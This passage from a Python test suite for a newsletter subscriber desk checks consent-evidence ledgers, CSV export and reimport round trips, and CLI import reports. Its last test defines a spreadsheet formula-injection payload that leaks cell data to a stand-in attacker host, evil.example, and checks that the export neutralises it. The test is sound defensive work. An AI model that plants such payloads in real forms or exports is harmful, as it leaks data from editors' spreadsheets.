            sa.select(db.consent_events.c.detail).where(db.consent_events.c.subscriber_id == 1)
        ).scalar_one()
    assert details == "readers.csv, line 2"


# --- the consent ledger and the round trip through export ------------------------------------


def test_every_active_reader_has_evidence_hashing_to_the_stored_policy_text(
    desk: Desk, tmp_path: Path
) -> None:
    with desk.engine.begin() as conn:
        old = get_policy(conn, POLICY)
        publish_policy(
            conn, "2026-12-01", old.text + "\n\nAnd one more clause.\n", old.wording, NOW
        )
        mail = sign_up(conn, SignUp("signed@example.org", True), Limits(), SECRET, NOW)
        assert mail is not None
        confirm(conn, mail.token, Evidence(source="confirm link"), SECRET, CONFIRM_TTL, NOW)
    seed_readers(desk.engine)
    path = write_csv(
        tmp_path,
        "old@example.org,Old,2026-01-15,form,,2026-11-01",
        "new@example.org,New,2026-11-20,form,,2026-12-01",
        "both@example.org,Both,2026-11-21,form,,2026-12-01",
        "both@example.org,Both,2026-01-15,form,,2026-11-01",
    )
    run_import(desk, path)

    assert assert_ledger_invariant(desk.engine) == 7
    versions = {a: events_of(desk.engine, a)[0]["policy_version"] for a in ("old@example.org", "new@example.org", "both@example.org")}  # fmt: skip
    assert versions == {
        "old@example.org": "2026-11-01",
        "new@example.org": "2026-12-01",
        "both@example.org": "2026-12-01",
    }
    assert policy_text_sha256(desk.engine, "2026-11-01") != policy_text_sha256(
        desk.engine, "2026-12-01"
    )


def active_evidence(engine: sa.Engine) -> dict[str, tuple[Any, ...]]:
    """address -> (name, policy, consented at, ip, source, policy sha256, wording)."""
    s, e = db.subscribers, db.consent_events
    first = (
        sa.select(sa.func.min(e.c.id).label("id"))
        .where(e.c.kind.in_(("imported", "given")))
        .group_by(e.c.subscriber_id)
        .subquery()
    )
    with engine.connect() as conn:
        rows = conn.execute(
            sa.select(
                s.c.email,
                s.c.name,
                s.c.policy_version,
                e.c.at,
                e.c.ip,
                e.c.source,
                e.c.policy_sha256,
                e.c.wording,
            )
            .join(e, e.c.subscriber_id == s.c.id)
            .join(first, first.c.id == e.c.id)
            .where(s.c.status == "active")
        )
        return {row[0]: tuple(row[1:]) for row in rows}


def desk_with_history(desk: Desk, tmp_path: Path) -> dict[str, tuple[Any, ...]]:
    """Active readers with varied evidence, plus readers who left; returns the active ones."""
    seed_readers(desk.engine)
    path = write_csv(
        tmp_path,
        'ann@example.org,"Lee, Ann",2026-01-15T09:30:00Z,https://example.org/signup,192.0.2.7,2026-11-01',
        "ivan@пример.рф,Иван Петров,2026-02-01T12:00:00+02:00,,,2026-11-01",
        "joe@example.net,,2026-03-01,book fair,2001:db8::1,2026-11-01",
        "gone@example.org,Gone,2026-03-01,form,,2026-11-01",
        "spam@example.org,Spam,2026-03-01,form,,2026-11-01",
        name="first.csv",
    )
    run_import(desk, path)
    with desk.engine.begin() as conn:
        gone = get_subscriber(conn, "gone@example.org")
        unsubscribe(conn, gone.id, Evidence(source="request by mail"), NOW)
        spam = get_subscriber(conn, "spam@example.org")
        record_complaint(conn, spam.id, "feedback loop report", NOW)
    active = active_evidence(desk.engine)
    assert len(active) == 6
    return active


def test_export_csv_reimported_into_a_fresh_desk_gives_the_same_readers_and_evidence(
    desk: Desk, tmp_path: Path, fresh_database_url: str
) -> None:
    active = desk_with_history(desk, tmp_path)
    with desk.engine.connect() as conn:
        exported = tmp_path / "export.csv"
        exported.write_text(export_csv(conn), encoding="utf-8")

    other = fresh_desk(desk, fresh_database_url)
    try:
        run_import(other, exported)
        assert active_evidence(other.engine) == active
        assert_ledger_invariant(other.engine)
    finally:
        other.engine.dispose()


def test_export_csv_evidence_columns_reimport_into_a_fresh_desk(
    desk: Desk, tmp_path: Path, fresh_database_url: str
) -> None:
    """The round trip of the active readers' evidence, with the `status` column taken out."""
    active = desk_with_history(desk, tmp_path)
    with desk.engine.connect() as conn:
        rows = list(csv.DictReader(export_csv(conn).splitlines()))
    assert {r["email"]: r["status"] for r in rows}["gone@example.org"] == "unsubscribed"
    exported = tmp_path / "export.csv"
    with exported.open("w", encoding="utf-8", newline="") as out:
        columns = [c for c in rows[0] if c != "status"]
        writer = csv.DictWriter(out, columns, extrasaction="ignore", lineterminator="\n")
        writer.writeheader()
        writer.writerows(r for r in rows if r["status"] == "active")

    other = fresh_desk(desk, fresh_database_url)
    try:
        result = run_import(other, exported)
        assert (result.added, result.problems) == (6, [])
        assert active_evidence(other.engine) == active
        assert assert_ledger_invariant(other.engine) == 6
    finally:
        other.engine.dispose()


# --- the command line ----------------------------------------------------------------------


@pytest.fixture
def cli_env(desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)
    for name in list(os.environ):
        if name.startswith("NEWSLETTER_"):
            monkeypatch.delenv(name)
    return {
        "NEWSLETTER_DATABASE_URL": desk.settings.database_url,
        "NEWSLETTER_SECRET_KEY": SECRET,
        "NEWSLETTER_OUTBOX": str(tmp_path / "cli-outbox"),
        "NEWSLETTER_TEMPLATES": str(ROOT / "templates"),
        "NEWSLETTER_PRIVACY_DIR": str(ROOT / "privacy"),
        "NEWSLETTER_BASE_URL": "https://news.example.org",
    }


def run_cli(env: dict[str, str], *args: str) -> Any:
    return CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)


def test_cli_import_prints_the_report_as_json(cli_env: dict[str, str], tmp_path: Path) -> None:
    # the CLI reads the real clock: evidence from 2025 is in the past whenever this runs
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2025-01-15T09:30:00Z,form,192.0.2.7,2026-11-01",
        "bob@example.org,Bob,,form,,",
        "ann@example.org,Ann again,2025-01-16,form,,2026-11-01",
        "broken,X,2025-01-15,form,,2026-11-01",
        "ivan@пример.рф,Иван,2025-02-01,,,2026-11-01",
    )
    result = run_cli(cli_env, "subscribers", "import", str(path), "--json")

    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {
        "file": str(path),
        "rows": 5,
        "added": 2,
        "pending": 0,
        "inactive": 0,
        "already_present": 0,
        "duplicates": 1,
        "suppressed": 0,
        "problems": [
            {"line": 3, "reason": NO_EVIDENCE},
            {
                "line": 5,
                "reason": "email: 'broken' is not a valid address: An email address must have an @-sign.",
            },
        ],
        "mail_failures": [],
    }
    assert not (tmp_path / "cli-outbox").exists() or not list((tmp_path / "cli-outbox").iterdir())


def test_cli_import_pending_writes_an_opt_in_mail_per_reader_to_the_outbox(
    desk: Desk, cli_env: dict[str, str], tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2025-01-15,form,,2026-11-01",
        "bob@example.org,Bob,,form,,",
        "kot@xn--e1afmkfd.xn--p1ai,Кот,,,,",  # an IDN domain, in its ASCII form
        "dan@example.net,,2025-01-15,form,,",
    )
    result = run_cli(cli_env, "subscribers", "import", str(path), "--pending", "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["added"], report["pending"], report["problems"]) == (1, 3, [])
    assert report["mail_failures"] == []

    with desk.engine.connect() as conn:
        ids = {a: get_subscriber(conn, a).id for a in ("bob@example.org", "kot@пример.рф", "dan@example.net")}  # fmt: skip
    files = sorted((tmp_path / "cli-outbox").glob("*.eml"))
    assert len(files) == 3
    links: dict[str, int] = {}
    for file in files:
        message = email.message_from_bytes(file.read_bytes(), policy=default)
        (to,) = message["To"].addresses
        body = message.get_body(preferencelist=("plain",))
        assert body is not None
        found = re.findall(
            r"https://news\.example\.org/confirm/([A-Za-z0-9_.\-]+)", body.get_content()
        )
        assert len(found) == 1, body.get_content()
        subscriber_id, event_ref = read_timed_token(
            SECRET,
            CONFIRM,
            found[0],
            datetime.now(UTC),  # clock: the CLI stamped it
            CONFIRM_TTL,
        )
        links[normalise_address(to.addr_spec)] = subscriber_id  # the To domain is in IDNA
        (imported,) = events_of(desk.engine, to.addr_spec)
        assert event_ref == str(imported["id"])
    assert links == ids


def test_cli_import_refuses_a_non_ascii_local_part_by_line_and_mails_the_rest(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    """Such an address cannot be mailed without SMTPUTF8: refused at its line, not a crash
    after the import committed (as it was before d915636)."""
    path = write_csv(tmp_path, "кот@пример.рф,Кот,,,,", "bob@example.org,Bob,,,,")
    result = run_cli(cli_env, "subscribers", "import", str(path), "--pending", "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["pending"], report["mail_failures"]) == (1, [])
    (problem,) = report["problems"]
    assert problem["line"] == 2
    assert problem["reason"].startswith("email: 'кот@пример.рф' is not a valid address: ")
    (mail,) = (tmp_path / "cli-outbox").glob("*.eml")
    message = email.message_from_bytes(mail.read_bytes(), policy=default)
    assert message["To"].addresses[0].addr_spec == "bob@example.org"


def test_cli_refuses_a_file_that_is_not_utf8_with_exit_code_2(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    path = tmp_path / "readers.csv"
    path.write_bytes(
        f"{HEADER}\n".encode() + "ann@example.org,Анна,2025-01-15,,,2026-11-01\n".encode("cp1251")
    )
    result = run_cli(cli_env, "subscribers", "import", str(path), "--json")
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Error: {path}, line 2: not UTF-8")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'


def test_a_formula_in_a_sign_up_is_exported_as_text_and_imported_back_as_it_was(
    client: Any, desk: Desk, tmp_path: Path, fresh_database_url: str
) -> None:
    """The attack: a stranger signs up with a formula for a name; the editor opens the
    export in a spreadsheet. Every cell that a spreadsheet would run starts with a quote."""
    answer = client.post("/api/subscribe", json={"email": "x@example.org", "name": FORMULA,
                                                 "consent": True, "source": "-2+3"})  # fmt: skip
    assert answer.status_code == 202
    with desk.engine.begin() as conn:  # confirmed, so the round trip keeps the reader
        version = get_policy(conn, "2026-11-01").version
        s = db.subscribers  # as the link does: the offered name becomes the reader's
        conn.execute(s.update().values(status="active", policy_version=version,
                                       name=s.c.offered_name, offered_name=None))  # fmt: skip
        text = export_csv(conn)
    rows = list(csv.reader(text.splitlines()))
    [row] = [r for r in rows if r[0] == "x@example.org"]
    assert row[1] == "'" + FORMULA and row[4] == "'-2+3"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    editor_copy = tmp_path / "export.csv"
    editor_copy.write_text(text, encoding="utf-8")
    other = fresh_desk(desk, fresh_database_url)
    try:
        later = datetime.now(UTC) + timedelta(minutes=1)  # clock: the web app stamped it
        report = import_csv(other.engine, editor_copy, pending=False, secret=SECRET, now=later)
        assert not report.problems
        with other.engine.connect() as conn:
            back = get_subscriber(conn, "x@example.org")
        assert (back.name, back.status) == (FORMULA, "active")
    finally:
        other.engine.dispose()
